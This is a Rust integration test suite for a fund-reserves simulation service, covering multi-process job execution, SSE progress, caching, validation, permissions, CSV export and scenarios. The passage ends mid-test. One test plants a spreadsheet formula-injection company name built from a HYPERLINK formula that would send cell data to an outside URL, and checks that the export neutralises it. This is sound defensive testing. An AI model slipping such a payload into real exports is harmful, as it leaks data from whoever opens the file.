//! Durable reserve runs on real PostgreSQL with two server processes on one database: executed
//! exactly once, followed over SSE from the process that does not execute them, completed by the
//! other process with the same result when the executing one dies, cancelled within a second,
//! answered from the cache for an identical request and computed anew after an append; bad input
//! is a 4xx naming the field and writes nothing.

mod common;

use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::{Request, StatusCode};
use axum::Router;
use common::{replica_with, spawn_with, TestApp};
use http_body_util::BodyExt;
use serde_json::{json, Value};
use tower::ServiceExt;

/// A fund of `n` active companies at mixed stages with ownership, valuations and reserves, plus a
/// written-off one and one never valued (both excluded). Returns the fund id.
async fn portfolio(app: &TestApp, n: usize) -> String {
    let fund = app.fund(900).await;
    let start = common::days_ago(899);
    let stages = ["seed", "series_a", "series_b", "seed", "series_c"];
    let mut events = vec![json!({"type": "CAPITAL_CALLED", "effective_at": start, "payload": {"amount": "60000000"}})];
    let mut ids = Vec::new();
    for i in 0..n + 2 {
        let id = uuid::Uuid::new_v4().to_string();
        events.push(json!({"type": "COMPANY_ADDED", "effective_at": start,
            "payload": {"company_id": id, "name": format!("Company {i:02}"), "stage": stages[i % stages.len()]}}));
        ids.push(id);
    }
    for (i, id) in ids.iter().enumerate() {
        let cheque = 500_000 + 100_000 * (i as i64 % 7);
        let mut investment = json!({"company_id": id, "amount": cheque.to_string()});
        if i != n + 1 {
            investment["ownership"] = json!(format!("0.{:02}", 5 + i % 10));
            investment["post_money"] = json!((cheque * 10).to_string());
        }
        events.push(json!({"type": "INVESTMENT_MADE", "effective_at": start, "payload": investment}));
        events.push(json!({"type": "RESERVE_ALLOCATED", "effective_at": start, "payload": {"company_id": id, "amount": (cheque * 2).to_string()}}));
    }
    events.push(json!({"type": "COMPANY_WRITTEN_OFF", "effective_at": common::days_ago(400), "payload": {"company_id": ids[n]}}));
    let (s, v) = app.post(&format!("/api/funds/{fund}/events"), json!({ "events": events })).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    fund
}

async fn call(router: &Router, token: &str, method: &str, uri: &str, body: Option<Value>) -> (StatusCode, Value) {
    let mut req = Request::builder().method(method).uri(uri).header("authorization", format!("Bearer {token}"));
    let body = match body {
        Some(v) => {
            req = req.header("content-type", "application/json");
            Body::from(v.to_string())
        }
        None => Body::empty(),
    };
    let res = router.clone().oneshot(req.body(body).unwrap()).await.unwrap();
    let status = res.status();
    let bytes = res.into_body().collect().await.unwrap().to_bytes();
    (status, serde_json::from_slice(&bytes).unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into_owned())))
}

async fn start(router: &Router, app: &TestApp, fund: &str, body: Value) -> (StatusCode, Value) {
    call(router, &app.token, "POST", &format!("/api/funds/{fund}/reserves/runs"), Some(body)).await
}

async fn run_row(app: &TestApp, fund: &str, run: &str) -> Value {
    let (s, v) = app.get(&format!("/api/funds/{fund}/reserves/runs/{run}")).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    v
}

async fn wait_for(app: &TestApp, fund: &str, run: &str, secs: u64, done: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + Duration::from_secs(secs);
    loop {
        let v = run_row(app, fund, run).await;
        if done(&v) {
            return v;
        }
        assert!(Instant::now() < deadline, "run never reached the expected state: {v}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// One server-sent event.
#[derive(Debug, Clone)]
struct Sse {
    event: String,
    id: String,
    data: Value,
}

/// Reads a run's event stream through `router` until it ends (or fails after `secs`).
async fn read_events(router: &Router, token: &str, uri: &str, last_event_id: Option<&str>, secs: u64) -> (Vec<Sse>, axum::http::HeaderMap) {
    let mut req = Request::builder().uri(uri).header("authorization", format!("Bearer {token}")).header("accept-encoding", "gzip");
    if let Some(id) = last_event_id {
        req = req.header("last-event-id", id);
    }
    let res = router.clone().oneshot(req.body(Body::empty()).unwrap()).await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let headers = res.headers().clone();
    let mut body = res.into_body();
    let mut text = String::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
    loop {
        match tokio::time::timeout_at(deadline, body.frame()).await.expect("the stream ended in time") {
            Some(frame) => {
                if let Ok(data) = frame.unwrap().into_data() {
                    text.push_str(&String::from_utf8_lossy(&data));
                }
            }
            None => break,
        }
    }
    let events = text
        .split("\n\n")
        .filter_map(|block| {
            let mut e = Sse { event: String::new(), id: String::new(), data: Value::Null };
            for line in block.lines() {
                if let Some(v) = line.strip_prefix("event: ").or_else(|| line.strip_prefix("event:")) {
                    e.event = v.trim().to_string();
                } else if let Some(v) = line.strip_prefix("id: ").or_else(|| line.strip_prefix("id:")) {
                    e.id = v.trim().to_string();
                } else if let Some(v) = line.strip_prefix("data: ").or_else(|| line.strip_prefix("data:")) {
                    e.data = serde_json::from_str(v).unwrap();
                }
            }
            (!e.event.is_empty()).then_some(e)
        })
        .collect();
    (events, headers)
}

#[tokio::test]
async fn a_run_is_executed_once_and_followed_to_its_result_through_the_other_process() {
    // A executes nothing; B, a second process on the same database, runs the worker.
    let app = spawn_with(&[("RESERVE_WORKER", "false")]).await;
    let fund = portfolio(&app, 30).await;
    let (b_router, b_state) = replica_with(&app, &[]).await;

    let (s, v) = start(&app.router, &app, &fund, json!({"iterations": 400_000})).await;
    assert_eq!(s, StatusCode::ACCEPTED, "{v}");
    assert_eq!(v["status"], "queued");
    let run = v["run_id"].as_str().unwrap().to_string();
    let events_url = v["events_url"].as_str().unwrap().to_string();
    assert_eq!(events_url, format!("/api/funds/{fund}/reserves/runs/{run}/events"));
    // A's latest ranking for the run's dates: none yet (and A keeps that answer per fund revision)...
    let queued = run_row(&app, &fund, &run).await;
    let date = |field: &str| queued[field].as_str().map(|d| chrono::DateTime::parse_from_rfc3339(d).unwrap().to_utc());
    let (fund_id, as_of, known_at) = (fund.parse().unwrap(), date("as_of").unwrap(), date("known_at"));
    assert!(app.store.latest_reserve_ranking(fund_id, as_of, known_at).await.unwrap().is_none());

    let (events, headers) = read_events(&app.router, &app.token, &events_url, None, 120).await;
    assert_eq!(headers.get("content-type").unwrap(), "text/event-stream");
    assert!(headers.get("content-encoding").is_none(), "no compression on the event stream");
    let (last, progress) = events.split_last().expect("events");
    assert_eq!(last.event, "result", "{events:?}");
    assert_eq!(last.id, "1001");
    assert_eq!(last.data["status"], "succeeded");
    let fractions: Vec<f64> = progress.iter().map(|e| {
        assert_eq!(e.event, "progress", "only progress before the end: {events:?}");
        e.data["fraction"].as_f64().unwrap()
    }).collect();
    assert!(fractions.len() >= 3, "several progress events: {fractions:?}");
    assert!(fractions.windows(2).all(|w| w[0] < w[1]), "progress increases: {fractions:?}");
    assert!(fractions.iter().any(|f| *f > 0.0 && *f < 1.0), "progress in between: {fractions:?}");

    let row = run_row(&app, &fund, &run).await;
    assert_eq!(row["status"], "succeeded");
    assert_eq!(row["attempts"], 1, "executed exactly once");
    // ...and B's finish, which bumps the revision, makes A read it afresh.
    let (latest, _) = app.store.latest_reserve_ranking(fund_id, as_of, known_at).await.unwrap().expect("the finished run");
    assert_eq!(latest.id.to_string(), run);
    let report = &row["result"];
    assert_eq!(report["companies"].as_array().unwrap().len(), 30, "every active priced company is ranked");
    let excluded = report["excluded"].as_array().unwrap();
    assert_eq!(excluded.len(), 2, "{excluded:?}");
    assert!(excluded.iter().all(|e| !e["reason"].as_str().unwrap().is_empty()));
    let claimed: String = sqlx::query_scalar("SELECT claimed_by FROM reserve_runs WHERE id = $1::uuid").bind(&run).fetch_one(app.store.pool()).await.unwrap();
    assert!(!claimed.is_empty());
    drop(b_router);
    b_state.shutdown().await;

    // A late subscriber gets the final event at once; one that already has it gets nothing.
    let t = Instant::now();
    let (late, _) = read_events(&app.router, &app.token, &events_url, None, 5).await;
    assert_eq!(late.iter().map(|e| e.event.as_str()).collect::<Vec<_>>(), ["result"]);
    assert!(t.elapsed() < Duration::from_secs(1));
    let (resumed, _) = read_events(&app.router, &app.token, &events_url, Some("1001"), 5).await;
    assert!(resumed.is_empty(), "{resumed:?}");
}

#[tokio::test]
async fn a_run_whose_process_dies_is_completed_by_the_other_with_the_same_result() {
    let stale = [("RESERVE_HEARTBEAT_STALE_MS", "1500"), ("RESERVE_POLL_INTERVAL_MS", "200")];
    let app = spawn_with(&stale).await;
    let fund = portfolio(&app, 30).await;
    let (s, v) = start(&app.router, &app, &fund, json!({"iterations": 1_000_000, "seed": 7})).await;
    assert_eq!(s, StatusCode::ACCEPTED, "{v}");
    let run = v["run_id"].as_str().unwrap().to_string();
    wait_for(&app, &fund, &run, 60, |r| r["status"] == "running" && r["progress"].as_f64().unwrap() > 0.0).await;
    // The executing process dies: its worker stops mid-run, no more heartbeats.
    app.state.reserve_worker.as_ref().unwrap().abort().await;
    let (_, b_state) = replica_with(&app, &stale).await;
    let done = wait_for(&app, &fund, &run, 120, |r| r["status"] == "succeeded").await;
    assert_eq!(done["attempts"], 2, "claimed again after the heartbeat went stale");

    // The same input run uninterrupted, straight through the engine.
    let (input, params): (Value, Value) = sqlx::query_as("SELECT input, params FROM reserve_runs WHERE id = $1::uuid").bind(&run).fetch_one(app.store.pool()).await.unwrap();
    let expected = tokio::task::spawn_blocking(move || {
        let input: app::reserves::service::StoredInput = serde_json::from_value(input).unwrap();
        let params: domain::reserves::RunParams = serde_json::from_value(params).unwrap();
        let report = domain::reserves::run_fund(&input.into_portfolio(), &params, &|_| {}, &std::sync::atomic::AtomicBool::new(false)).unwrap();
        serde_json::to_value(report).unwrap()
    })
    .await
    .unwrap();
    assert_eq!(done["result"], expected, "identical to an uninterrupted run");
    b_state.shutdown().await;
}

#[tokio::test]
async fn cancel_from_the_other_process_ends_a_run_within_a_second() {
    let app = spawn_with(&[]).await;
    let fund = portfolio(&app, 30).await;
    let (b_router, _b) = replica_with(&app, &[("RESERVE_WORKER", "false")]).await;
    let (_, v) = start(&app.router, &app, &fund, json!({"iterations": 1_000_000, "seed": 99})).await;
    let run = v["run_id"].as_str().unwrap().to_string();
    wait_for(&app, &fund, &run, 60, |r| r["status"] == "running" && r["progress"].as_f64().unwrap() > 0.0).await;
    let t = Instant::now();
    let (s, v) = call(&b_router, &app.token, "POST", &format!("/api/funds/{fund}/reserves/runs/{run}/cancel"), None).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["cancel_requested"], true);
    let done = wait_for(&app, &fund, &run, 5, |r| r["status"] != "running").await;
    let took = t.elapsed();
    assert_eq!(done["status"], "cancelled", "{done}");
    assert!(took <= Duration::from_secs(1), "cancelled after {took:?}");
    let (events, _) = read_events(&b_router, &app.token, &format!("/api/funds/{fund}/reserves/runs/{run}/events"), None, 5).await;
    assert_eq!(events.last().unwrap().event, "cancelled");
    let (s, v) = call(&b_router, &app.token, "POST", &format!("/api/funds/{fund}/reserves/runs/{run}/cancel"), None).await;
    assert_eq!((s, v["field"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("run_id")), "a finished run: {v}");
}

#[tokio::test]
async fn an_identical_request_simulates_nothing_and_an_append_makes_the_next_compute_anew() {
    let app = spawn_with(&[]).await;
    let fund = portfolio(&app, 8).await;
    let (b_router, _b) = replica_with(&app, &[("RESERVE_WORKER", "false")]).await;
    let (s, v) = start(&app.router, &app, &fund, json!({})).await;
    assert_eq!(s, StatusCode::ACCEPTED, "{v}");
    let run = v["run_id"].as_str().unwrap().to_string();
    wait_for(&app, &fund, &run, 60, |r| r["status"] == "succeeded").await;

    // The executing process fills its memory right after recording the result: either answer is
    // a cache hit, and nothing is simulated.
    let (s, v) = start(&app.router, &app, &fund, json!({})).await;
    assert_eq!((s, v["run_id"].as_str()), (StatusCode::OK, Some(run.as_str())), "{v}");
    assert!(matches!(v["cached"].as_str(), Some("memory" | "database")), "{v}");
    assert!(v["run"]["result"]["companies"].is_array());
    let (s, v) = start(&b_router, &app, &fund, json!({})).await;
    assert_eq!((s, v["cached"].as_str()), (StatusCode::OK, Some("database")), "the other process reads the stored result: {v}");
    let (s, v) = start(&b_router, &app, &fund, json!({})).await;
    assert_eq!((s, v["cached"].as_str()), (StatusCode::OK, Some("memory")), "…and then has it in memory: {v}");
    assert_eq!(app.count("reserve_runs").await, 1, "no new simulation");

    let (s, ranking) = app.get(&format!("/api/funds/{fund}/reserves")).await;
    assert_eq!(s, StatusCode::OK, "{ranking}");
    assert_eq!((ranking["current"].as_bool(), ranking["run"]["id"].as_str()), (Some(true), Some(run.as_str())));

    // A new valuation changes what today sees: the ranking is no longer current, and the same
    // request queues a new run.
    let company: String = sqlx::query_scalar("SELECT company_id::text FROM fund_events WHERE fund_id = $1::uuid AND event_type = 'COMPANY_ADDED' ORDER BY version LIMIT 1")
        .bind(&fund)
        .fetch_one(app.store.pool())
        .await
        .unwrap();
    let (s, v) = app.post(&format!("/api/funds/{fund}/events"), json!({"events": [{"type": "VALUATION_UPDATED", "payload": {"company_id": company, "post_money": "90000000"}}]})).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let (_, ranking) = app.get(&format!("/api/funds/{fund}/reserves")).await;
    assert_eq!(ranking["current"], false, "{ranking}");
    let (s, v) = start(&b_router, &app, &fund, json!({})).await;
    assert_eq!(s, StatusCode::ACCEPTED, "{v}");
    assert_ne!(v["run_id"].as_str(), Some(run.as_str()));
    assert_eq!(app.count("reserve_runs").await, 2);

    let (_, metrics) = app.get("/metrics").await;
    let text = metrics.as_str().unwrap();
    for line in ["reserve_cache_hits_total{layer=\"memory\"}", "reserve_cache_hits_total{layer=\"database\"}", "reserve_cache_misses_total", "reserve_runs{status=\"succeeded\"}", "reserve_run_queue_depth"] {
        assert!(text.contains(line), "/metrics has {line}");
    }
}

#[tokio::test]
async fn bad_parameters_are_a_4xx_naming_the_field_and_write_nothing() {
    let app = spawn_with(&[("RESERVE_WORKER", "false")]).await;
    let fund = portfolio(&app, 3).await;
    let runs = format!("/api/funds/{fund}/reserves/runs");
    let cases = [
        (json!({"iterations": 5}), StatusCode::UNPROCESSABLE_ENTITY, "iterations"),
        (json!({"iterations": 2_000_000}), StatusCode::UNPROCESSABLE_ENTITY, "iterations"),
        (json!({"iterations": "many"}), StatusCode::UNPROCESSABLE_ENTITY, "iterations"),
        (json!({"increment": "abc"}), StatusCode::UNPROCESSABLE_ENTITY, "increment"),
        (json!({"increment": "500000000000"}), StatusCode::UNPROCESSABLE_ENTITY, "increment"),
        (json!({"seed": -1}), StatusCode::UNPROCESSABLE_ENTITY, "seed"),
        (json!({"as_of": "yesterday"}), StatusCode::UNPROCESSABLE_ENTITY, "as_of"),
        (json!({"as_of": "+262142-12-31"}), StatusCode::UNPROCESSABLE_ENTITY, "as_of"),
        (json!({"as_of": "2001-01-01"}), StatusCode::UNPROCESSABLE_ENTITY, "as_of"),
        (json!({"known_at": "-4714-11-23"}), StatusCode::UNPROCESSABLE_ENTITY, "known_at"),
        (json!({"colour": "red"}), StatusCode::BAD_REQUEST, "colour"),
    ];
    for (body, status, field) in cases {
        let (s, v) = app.post(&runs, body.clone()).await;
        assert_eq!((s, v["field"].as_str()), (status, Some(field)), "{body}: {v}");
    }
    let bad_id = app.get(&format!("{runs}/not-a-uuid")).await;
    assert_eq!((bad_id.0, bad_id.1["field"].as_str()), (StatusCode::BAD_REQUEST, Some("run_id")));
    let unknown = app.get(&format!("{runs}/{}", uuid::Uuid::new_v4())).await;
    assert_eq!(unknown.0, StatusCode::NOT_FOUND);
    let (s, v) = app.get(&format!("/api/funds/{fund}/reserves?at=2025-13-40")).await;
    assert_eq!((s, v["field"].as_str()), (StatusCode::BAD_REQUEST, Some("at")));
    let (s, v) = app.get(&format!("/api/funds/{fund}/reserves")).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "nothing computed yet: {v}");
    assert_eq!(app.count("reserve_runs").await, 0, "nothing written");
}

#[tokio::test]
async fn assumptions_are_part_of_the_history_and_a_past_date_uses_those_then_in_force() {
    let app = spawn_with(&[]).await;
    let fund = portfolio(&app, 4).await;
    let url = format!("/api/funds/{fund}/reserves/assumptions");
    let (s, v) = app.get(&url).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert!(v["assumptions"].is_null());
    assert!(v["parameters"]["model"]["stages"]["seed"]["graduation"]["source"].as_str().unwrap().contains("Carta"), "defaults cite their source: {v}");

    let (s, v) = app.put(&url, json!({"model": {"stages": {"seed": {"graduation": 1.7}}}})).await;
    assert_eq!((s, v["field"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("model.stages.seed.graduation")), "{v}");
    let (s, v) = app.put(&url, json!({"model": {"stages": {"seed": {"graduation": 0.5}}}, "constraints": {"hurdle": 1.2}})).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["parameters"]["model"]["stages"]["seed"]["graduation"]["value"], 0.5);
    assert_eq!(v["parameters"]["model"]["stages"]["seed"]["graduation"]["source"], "fund override");

    // Today's run uses them; a run as of last year uses the defaults in force then.
    let (_, today) = start(&app.router, &app, &fund, json!({"iterations": 2000})).await;
    let last_year = (chrono::Utc::now() - chrono::Duration::days(365)).date_naive().to_string();
    let (_, past) = start(&app.router, &app, &fund, json!({"iterations": 2000, "as_of": last_year})).await;
    for (v, expected_source, hurdle) in [(&today, "fund override", 1.2), (&past, "default", 1.0)] {
        let run = v["run_id"].as_str().unwrap();
        let done = wait_for(&app, &fund, run, 60, |r| r["status"] == "succeeded").await;
        let params = &done["result"]["params"];
        assert_eq!(params["constraints"]["hurdle"]["value"], hurdle, "{params}");
        let source = params["model"]["stages"]["seed"]["graduation"]["source"].as_str().unwrap();
        assert!(if expected_source == "default" { source != "fund override" } else { source == expected_source }, "{source}");
    }
    // Analysts cannot change assumptions; the events API cannot either.
    let analyst = common::create_user(&app.store, "analyst@test.local").await;
    app.store.grant_role(&app::store::AuditActor::command_line(), fund.parse().unwrap(), analyst.id, domain::access::Role::Analyst).await.unwrap();
    let (_, token) = app.store.create_api_token(analyst.id, "t", domain::access::Role::Admin).await.unwrap();
    let (s, _) = app.call_as(Some(&token), "PUT", &url, Some(json!({}))).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, v) = app.post(&format!("/api/funds/{fund}/events"), json!({"events": [{"type": "RESERVE_ASSUMPTIONS_SET", "payload": {}}]})).await;
    assert_eq!((s, v["field"].as_str()), (StatusCode::BAD_REQUEST, Some("events[0].type")), "{v}");
}

#[tokio::test]
async fn with_the_feature_off_the_routes_are_404_and_no_worker_runs() {
    let app = spawn_with(&[("FF_OPTIMAL_RESERVES", "false")]).await;
    let fund = app.fund(30).await;
    let (s, _) = app.post(&format!("/api/funds/{fund}/reserves/runs"), json!({})).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = app.get(&format!("/api/funds/{fund}/reserves")).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    assert!(app.state.reserve_worker.is_none() && app.state.reserve_hub.is_none());
}

#[tokio::test]
async fn with_two_workers_each_run_is_executed_exactly_once() {
    let app = spawn_with(&[]).await;
    let fund = portfolio(&app, 6).await;
    let (_b_router, b_state) = replica_with(&app, &[]).await;
    let mut runs = Vec::new();
    for seed in 1..=6 {
        let (s, v) = start(&app.router, &app, &fund, json!({"seed": seed, "iterations": 20_000})).await;
        assert_eq!(s, StatusCode::ACCEPTED, "{v}");
        runs.push(v["run_id"].as_str().unwrap().to_string());
    }
    for run in &runs {
        let done = wait_for(&app, &fund, run, 60, |r| r["status"] == "succeeded").await;
        assert_eq!(done["attempts"], 1, "{done}");
    }
    let workers: i64 = sqlx::query_scalar("SELECT count(DISTINCT claimed_by) FROM reserve_runs").fetch_one(app.store.pool()).await.unwrap();
    assert!((1..=2).contains(&workers));
    b_state.shutdown().await;
}

#[tokio::test]
async fn the_seeded_demo_fund_has_a_ranking_for_today_at_once() {
    let started = Instant::now();
    let app = spawn_with(&[("SEED_DEMO", "1"), ("DEMO_PASSWORD", "demo-password-for-tests")]).await;
    let fund = app.store.funds().await.unwrap()[0].id;
    let as_of = app::time_machine::dates::end_of(chrono::Utc::now().date_naive());
    let run = loop {
        if let Some(run) = app.store.latest_reserve_result(fund, as_of, None).await.unwrap() {
            break run;
        }
        assert!(started.elapsed() < Duration::from_secs(60), "no ranking for the demo fund");
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    let report = run.result.unwrap();
    assert!(report["companies"].as_array().unwrap().len() >= 10, "{report}");
    assert!(report["excluded"].as_array().unwrap().iter().all(|e| !e["reason"].as_str().unwrap().is_empty()));
    assert_eq!(run.requested_by, "demo seed");
    // The demo fund turns the variance adjustment on: the run's input carries the rule, and every
    // company it adjusted says why.
    assert_eq!(run.assumptions["variance_adjustment"]["revenue_below_pct"], "20", "{}", run.assumptions);
    for c in report["companies"].as_array().unwrap().iter().filter(|c| !c["adjustment"].is_null()) {
        assert!(c["adjustment"]["reason"].as_str().unwrap().contains("below plan in its latest 2 periods"), "{c}");
        assert_eq!(c["adjustment"]["factor"], 0.8);
    }

    // The demo's history was recorded over time: its quarter ends as known then are queued as one
    // batch on opening the tab, and the history fills in.
    app.store.grant_role(&app::store::AuditActor::command_line(), fund, app.owner.id, domain::access::Role::Viewer).await.unwrap();
    let uri = format!("/funds/{fund}/reserves");
    let _ = page(&app.router, &app.token, &uri).await;
    let quarters = app.count("reserve_runs WHERE known_at = as_of").await;
    assert!(quarters >= 8, "the history's quarter ends are queued as one batch: {quarters}");
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let (_, body) = page(&app.router, &app.token, &uri).await;
        if body.contains("class=\"data history-table\"") && !body.contains("data-test=\"history-pending\"") {
            assert!(body.contains("What changed"), "links to the Time Machine's changes");
            assert!(body.contains("variance_adjustment.revenue_below_pct"), "the assumptions panel lists the variance adjustment");
            break;
        }
        assert!(Instant::now() < deadline, "the history never filled in");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(app.count("reserve_runs WHERE known_at = as_of").await, quarters, "each quarter end is computed once");
}

async fn page(router: &Router, token: &str, uri: &str) -> (StatusCode, String) {
    let req = Request::get(uri).header("authorization", format!("Bearer {token}")).body(Body::empty()).unwrap();
    let res = router.clone().oneshot(req).await.unwrap();
    let status = res.status();
    (status, String::from_utf8(res.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap())
}

#[tokio::test]
async fn the_reserves_tab_renders_the_ranking_on_the_server_exports_csv_and_shares_it() {
    let app = spawn_with(&[]).await;
    let fund = portfolio(&app, 5).await;
    // A company whose name a spreadsheet would run as a formula.
    let start = common::days_ago(899);
    let id = uuid::Uuid::new_v4().to_string();
    let (s, v) = app.post(&format!("/api/funds/{fund}/events"), json!({"events": [
        {"type": "COMPANY_ADDED", "effective_at": start, "payload": {"company_id": id, "name": "=HYPERLINK(\"https://x/?\"&B2,\"x\")", "stage": "Series A"}},
        {"type": "INVESTMENT_MADE", "effective_at": start, "payload": {"company_id": id, "amount": "700000", "ownership": "0.08", "post_money": "9000000"}},
    ]})).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");

    // Opening the tab queues today's ranking; once computed the page shows it.
    let uri = format!("/funds/{fund}/reserves");
    let (s, first) = page(&app.router, &app.token, &uri).await;
    assert_eq!(s, StatusCode::OK);
    assert!(first.contains("data-test=\"pending-run\"") || first.contains("data-test=\"ranking-table\""), "{}", &first[..first.len().min(2000)]);
    let deadline = Instant::now() + Duration::from_secs(60);
    let body = loop {
        let (_, body) = page(&app.router, &app.token, &uri).await;
        if body.contains("data-test=\"ranking-table\"") {
            break body;
        }
        assert!(Instant::now() < deadline, "the ranking never showed");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    for expected in ["Company 00", "data-test=\"insights\"", "data-test=\"allocation-chart\"", "data-test=\"calculate-form\"", "data-test=\"parameters\"", "written off", "class=\"interval\""] {
        assert!(body.contains(expected), "the tab shows {expected}");
    }
    assert_eq!(app.count("reserve_runs WHERE known_at IS NULL").await, 1, "opening the tab again does not queue again");
    // Recorded today, the fund was unknown at every past quarter end: no history as known then.
    assert_eq!(app.count("reserve_runs WHERE known_at = as_of").await, 0);

    let (s, csv) = app.get(&format!("/api/funds/{fund}/reserves.csv")).await;
    assert_eq!(s, StatusCode::OK);
    let csv = csv.as_str().unwrap().to_string();
    assert!(csv.starts_with("rank,company,stage,follow_on_multiple"), "{csv}");
    assert!(csv.contains("'=HYPERLINK"), "formula neutralised: {csv}");
    assert!(!csv.lines().any(|l| l.split(',').nth(1).is_some_and(|c| c.trim_matches('"').starts_with('='))), "{csv}");

    // A viewer sees the ranking but no Calculate form, and cannot start a run.
    let viewer = common::create_user(&app.store, "viewer@test.local").await;
    app.store.grant_role(&app::store::AuditActor::command_line(), fund.parse().unwrap(), viewer.id, domain::access::Role::Viewer).await.unwrap();
    let (_, viewer_token) = app.store.create_api_token(viewer.id, "t", domain::access::Role::Admin).await.unwrap();
    let (_, as_viewer) = page(&app.router, &viewer_token, &uri).await;
    assert!(as_viewer.contains("data-test=\"ranking-table\"") && !as_viewer.contains("data-test=\"calculate-form\""));
    let (s, _) = app.call_as(Some(&viewer_token), "POST", &format!("/api/funds/{fund}/reserves/runs"), Some(json!({}))).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn applying_a_recommendation_writes_the_new_plan_in_one_batch_and_refuses_a_changed_fund() {
    let app = spawn_with(&[]).await;
    let fund = portfolio(&app, 6).await;
    let (_, v) = start(&app.router, &app, &fund, json!({"iterations": 5000})).await;
    let run = v["run_id"].as_str().unwrap().to_string();
    let done = wait_for(&app, &fund, &run, 60, |r| r["status"] == "succeeded").await;
    let changed: Vec<&Value> = done["result"]["companies"].as_array().unwrap().iter().filter(|c| c["change"] != "0").collect();
    assert!(changed.len() >= 2, "the test portfolio's plan changes for some companies: {}", done["result"]);
    let picked: Vec<String> = changed[..2].iter().map(|c| c["id"].as_str().unwrap().to_string()).collect();

    let url = format!("/api/funds/{fund}/reserves/runs/{run}/apply");
    let (s, v) = app.post(&url, json!({"companies": ["not-ranked"]})).await;
    assert_eq!((s, v["field"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("companies")), "{v}");
    let before = app.event_count().await;
    let (s, v) = app.post(&url, json!({"companies": picked})).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    assert_eq!(app.event_count().await, before + 2, "one RESERVE_ALLOCATED per picked company");
    let metadata: Vec<Value> = sqlx::query_scalar("SELECT metadata FROM fund_events WHERE fund_id = $1::uuid AND event_type = 'RESERVE_ALLOCATED' ORDER BY version DESC LIMIT 2")
        .bind(&fund)
        .fetch_all(app.store.pool())
        .await
        .unwrap();
    assert!(metadata.iter().all(|m| m["reserve_run"] == run.as_str()), "the events record their run: {metadata:?}");
    // The Time Machine shows the new plan: planned = deployed + recommended.
    let (_, state) = app.get(&format!("/api/funds/{fund}/state")).await;
    for c in &changed[..2] {
        let company = state["state"]["companies"].as_array().unwrap().iter().find(|x| x["id"] == c["id"]).expect("company in state");
        let planned: rust_decimal::Decimal = company["reserves_planned"].as_str().unwrap().parse().unwrap();
        let expected: rust_decimal::Decimal = c["deployed"].as_str().unwrap().parse::<rust_decimal::Decimal>().unwrap() + c["recommended_allocation"].as_str().unwrap().parse::<rust_decimal::Decimal>().unwrap();
        assert_eq!(planned, expected, "{company}");
    }
    // The fund changed since the run: applying again is a 409 and writes nothing.
    let (s, v) = app.post(&url, json!({})).await;
    assert_eq!(s, StatusCode::CONFLICT, "{v}");
    assert!(v["current_version"].is_u64());
    assert_eq!(app.event_count().await, before + 2);
}

#[tokio::test]
async fn scenarios_freeze_a_ranking_and_compare_with_another_or_the_current_one() {
    let app = spawn_with(&[]).await;
    let fund = portfolio(&app, 4).await;
    let mut runs = Vec::new();
    for seed in [1, 2] {
        let (_, v) = start(&app.router, &app, &fund, json!({"iterations": 3000, "seed": seed})).await;
        let run = v["run_id"].as_str().unwrap().to_string();
        wait_for(&app, &fund, &run, 60, |r| r["status"] == "succeeded").await;
        runs.push(run);
    }
    let url = format!("/api/funds/{fund}/reserves/scenarios");
    let (s, a) = app.post(&url, json!({"run_id": runs[0], "name": "Base case", "description": "seed 1"})).await;
    assert_eq!(s, StatusCode::CREATED, "{a}");
    let (s, v) = app.post(&url, json!({"run_id": runs[1], "name": "base CASE"})).await;
    assert_eq!((s, v["field"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("name")), "names are unique: {v}");
    let (s, v) = app.post(&url, json!({"run_id": runs[1], "name": "  "})).await;
    assert_eq!((s, v["field"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("name")));
    let (s, b) = app.post(&url, json!({"run_id": runs[1], "name": "Seed 2"})).await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let (_, list) = app.get(&url).await;
    assert_eq!(list["scenarios"].as_array().unwrap().len(), 2);

    let (a, b) = (a["id"].as_str().unwrap(), b["id"].as_str().unwrap());
    let (_, html) = page(&app.router, &app.token, &format!("/funds/{fund}/reserves?compare_scenario={a}&with={b}")).await;
    assert!(html.contains("data-test=\"comparison\"") && html.contains("Base case compared with Seed 2"), "{}", &html[..html.len().min(3000)]);
    let (_, html) = page(&app.router, &app.token, &format!("/funds/{fund}/reserves?compare_scenario={a}")).await;
    assert!(html.contains("Base case compared with Current ranking"));
    let (_, html) = page(&app.router, &app.token, &format!("/funds/{fund}/reserves?scenario={b}")).await;
    assert!(html.contains("data-test=\"opened-scenario\""));
    let (s, _) = page(&app.router, &app.token, &format!("/funds/{fund}/reserves?compare_scenario=nope")).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "a bad scenario id is refused, naming compare");

    let (_, html) = page(&app.router, &app.token, &format!("/funds/{fund}/reserves")).await;
    assert!(html.contains("Base case") && html.contains("Seed 2"), "the tab lists both scenarios");
